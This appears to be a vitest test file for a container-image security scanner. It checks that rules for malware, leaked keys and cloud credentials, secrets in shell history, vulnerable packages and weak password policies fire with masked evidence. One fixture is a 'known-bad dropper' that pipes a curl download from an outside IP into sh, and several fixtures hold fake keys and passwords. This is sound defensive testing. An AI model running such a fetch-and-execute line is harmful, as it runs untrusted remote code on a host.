import { createHash } from 'node:crypto';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createClamavClient } from '../../scan/clamav';
import { EICAR } from '../../scan/rules/malware';
import { startClamd, TEST_MALWARE, TEST_SIGNATURE } from '../support/clamd';
import { cleanImage, dpkgStatus, imageWith, type ImageFile } from '../support/images';
import { scanBench, testContext } from '../support/scan';

let bench: Awaited<ReturnType<typeof scanBench>>;
let clamd: Awaited<ReturnType<typeof startClamd>>;
beforeAll(async () => {
  bench = await scanBench();
  clamd = await startClamd();
});
afterAll(async () => {
  await bench?.close();
  await clamd?.close();
});

const KNOWN_BAD = Buffer.from('#!/bin/sh\n# a known-bad dropper\ncurl http://203.0.113.9/x | sh\n');
const RSA_KEY = '-----BEGIN RSA PRIVATE KEY-----\nMIIEowIBAAKCAQEAwJ3qLmZr0bVn8gRkT8xYk9eS3fH2uN4vJ5Kp\n-----END RSA PRIVATE KEY-----\n';
const OPENSSH_KEY = '-----BEGIN OPENSSH PRIVATE KEY-----\nb3BlbnNzaC1rZXktdjEAAAAABG5vbmUAAAAEbm9uZQAAAAAAAAABAAAAMwAAAAtzc2gtZW\n-----END OPENSSH PRIVATE KEY-----\n';

/** One fixture per rule: the files that make it fire, and what its finding must say. */
const cases: { rule: string; files: ImageFile[]; path: string; evidence: RegExp; secret?: string; blocking?: boolean; also?: string[] }[] = [
  { rule: 'malware', files: [{ path: 'usr/local/bin/dropper', content: KNOWN_BAD }], path: '/usr/local/bin/dropper', evidence: /is on the known-bad list \(Test\.Dropper\)/ },
  { rule: 'malware', files: [{ path: 'tmp/eicar.com', content: EICAR }], path: '/tmp/eicar.com', evidence: /^EICAR test string$/ },
  { rule: 'malware', files: [{ path: 'srv/payload.bin', content: `xx${TEST_MALWARE}yy` }], path: '/srv/payload.bin', evidence: new RegExp(`^ClamAV: ${TEST_SIGNATURE.replace(/\./g, '\\.')}`) },
  { rule: 'preset-password', files: [{ path: 'etc/shadow', content: 'root:$6$saltsalt$N2mB7yq9mBcD4eLk0uL3xT1nq8cV7hJ4sQ2pW9zR5yX:19000:0:99999:7:::\ndaemon:*:19000::::::\n' }], path: '/etc/shadow', evidence: /^root: password hash \$6\$salt…\(\d+ chars\)$/, secret: 'N2mB7yq9mBcD4eLk0uL3xT1nq8cV7hJ4sQ2pW9zR5yX' },
  { rule: 'preset-password', files: [{ path: 'etc/shadow', content: 'root:*:19000::::::\nguest::19000::::::\n' }], path: '/etc/shadow', evidence: /^guest: empty password/ },
  { rule: 'authorized-keys', files: [{ path: 'home/alice/.ssh/authorized_keys2', content: '# keys\nssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIMk8fP2rVq3xYb0N alice@laptop\n' }], path: '/home/alice/.ssh/authorized_keys2', evidence: /^ssh-ed25519 AAAAC3Nz…\(\d+ chars\) alice@laptop$/, secret: 'AAAAC3NzaC1lZDI1NTE5AAAAIMk8fP2rVq3xYb0N' },
  { rule: 'private-key', files: [{ path: 'opt/app/certs/server.pem', content: `some text\n${RSA_KEY}` }], path: '/opt/app/certs/server.pem', evidence: /^-----BEGIN RSA PRIVATE KEY----- MIIE…$/, secret: 'MIIEowIBAAKCAQEAwJ3qLmZr0bVn8gRkT8xYk9eS3fH2uN4vJ5Kp' },
  { rule: 'private-key', files: [{ path: 'root/.ssh/id_ed25519', content: OPENSSH_KEY, mode: 0o600 }], path: '/root/.ssh/id_ed25519', evidence: /^-----BEGIN OPENSSH PRIVATE KEY----- b3Bl…$/ },
  { rule: 'cloud-credentials', files: [{ path: 'root/.aws/credentials', content: '[default]\naws_access_key_id = AKIAIOSFODNN7EXAMPLE\naws_secret_access_key = wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY\n' }], path: '/root/.aws/credentials', evidence: /^AWS secret access key wJal…\(40 chars\) for key id AKIA…\(20 chars\)$/, secret: 'wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY' },
  { rule: 'cloud-credentials', files: [{ path: 'opt/app/.env', content: 'HUAWEICLOUD_SDK_AK=QTWAOYTTINDUT2QVKYUC\nHUAWEICLOUD_SDK_SK=MFyfvK41ba2giqM7Uio6PznpdUKGpownRZlmVmHc\n' }], path: '/opt/app/.env', evidence: /^Huawei Cloud AK\/SK pair, AK QTWA…\(20 chars\), SK MFyf…\(40 chars\)$/, secret: 'MFyfvK41ba2giqM7Uio6PznpdUKGpownRZlmVmHc' },
  { rule: 'cloud-credentials', files: [{ path: 'srv/gcp/sa.json', content: JSON.stringify({ type: 'service_account', project_id: 'p', private_key_id: 'a'.repeat(40), private_key: '-----BEGIN PRIVATE KEY-----\\nMIIB\\n-----END PRIVATE KEY-----\\n' }) }], path: '/srv/gcp/sa.json', evidence: /^GCP service account key aaaa…\(40 chars\)$/, also: ['private-key'] },
  { rule: 'shell-history-secret', files: [{ path: 'root/.bash_history', content: 'ls\nmysql -uroot -pS3cretPassw0rd mydb\n' }], path: '/root/.bash_history', evidence: /^line 2: MySQL password \(-p\) S3…\(\d+ chars\)$/, secret: 'S3cretPassw0rd' },
  { rule: 'shell-history-secret', files: [{ path: 'home/alice/.zsh_history', content: 'sshpass -p hunter22 ssh admin@10.0.0.1\n' }], path: '/home/alice/.zsh_history', evidence: /^line 1: sshpass -p hu…\(8 chars\)$/, secret: 'hunter22' },
  { rule: 'vulnerable-package', files: [{ path: 'var/lib/dpkg/status', content: dpkgStatus([['openssl', '3.0.11-1~deb12u2'], ['libssl3', '3.0.11-1~deb12u2', 'openssl'], ['bash', '5.2.15-2+b8']]) }], path: '/var/lib/dpkg/status', evidence: /^openssl 3\.0\.11-1~deb12u2 \(libssl3, openssl\): DSA-0001-1 \(CVE-2024-0001\), CVSS 9\.8 CVSS:3\.1\/AV:N.*, fixed in 3\.0\.13-1~deb12u1$/ },
  { rule: 'vulnerable-package', files: [{ path: 'etc/os-release', content: 'ID=alpine\nVERSION_ID=3.19.1\n' }, { path: 'var/lib/dpkg/status', content: '' }, { path: 'lib/apk/db/installed', content: 'C:Q1abc=\nP:musl\nV:1.2.4_git20230717-r4\n\nP:openssl\nV:3.1.4-r2\no:openssl\n\n' }], path: '/lib/apk/db/installed', evidence: /^openssl 3\.1\.4-r2: ALPINE-CVE-2024-0001 .*CVSS 9\.8.*fixed in 3\.1\.4-r5$/ },
  { rule: 'weak-password-policy', files: [{ path: 'etc/pam.d/common-password', content: 'password [success=1 default=ignore] pam_unix.so obscure yescrypt\npassword requisite pam_deny.so\n' }], path: '/etc/pam.d/common-password', evidence: /^passwords of 6 characters are accepted: pam_unix\.so without minlen \(default 6\), no pam_pwquality$/ },
  { rule: 'weak-password-policy', files: [{ path: 'etc/pam.d/common-password', content: '' }, { path: 'etc/login.defs', content: 'PASS_MIN_LEN 5\n' }], path: '/etc/login.defs', evidence: /^passwords of 5 characters are accepted: PASS_MIN_LEN 5$/ },
];

const context = () => testContext({
  malwareDigests: new Map([[createHash('sha256').update(KNOWN_BAD).digest('hex'), 'Test.Dropper']]),
  clamav: createClamavClient(clamd.address),
});

describe.each(['none', 'gzip'] as const)('the scan rules on a %s archive', (compression) => {
  it('passes a clean image: no findings at all, every file seen', async () => {
    const r = await bench.scan(cleanImage(), compression, context());
    expect(r.findings).toEqual([]);
    expect(r.entries).toBe(cleanImage().length);
  });

  it.each(cases.map((c, i) => [`${c.rule} #${i}`, c] as const))('%s fires on its own fixture with the path and masked evidence', async (_name, c) => {
    const r = await bench.scan(imageWith(...c.files), compression, context());
    // A service-account file also holds a PEM key, which the private-key rule rightly reports as well.
    expect(r.findings.filter((x) => !c.also?.includes(x.rule)), JSON.stringify(r.findings)).toHaveLength(1);
    const f = r.findings.find((x) => x.rule === c.rule);
    expect(f).toMatchObject({ rule: c.rule, path: c.path, blocking: c.blocking ?? true });
    expect(f!.evidence).toMatch(c.evidence);
    if (c.secret) expect(JSON.stringify(r.findings)).not.toContain(c.secret);
  });
});

describe('vulnerable-package severity', () => {
  it('reports a match scored under 7.0 without failing the image, and one of 7.0 or more as blocking', async () => {
    const files = imageWith({ path: 'var/lib/dpkg/status', content: dpkgStatus([['openssl', '3.0.11-1~deb12u2'], ['bash', '5.2.15-2+b7']]) });
    const r = await bench.scan(files, 'none', context());
    const bySource = Object.fromEntries(r.findings.map((f) => [f.evidence.split(' ')[0], f]));
    expect(bySource.openssl).toMatchObject({ severity: 'critical', blocking: true });
    expect(bySource.bash).toMatchObject({ severity: 'medium', blocking: false });
    expect(bySource.bash!.evidence).toContain('CVSS 4.7');
  });
});
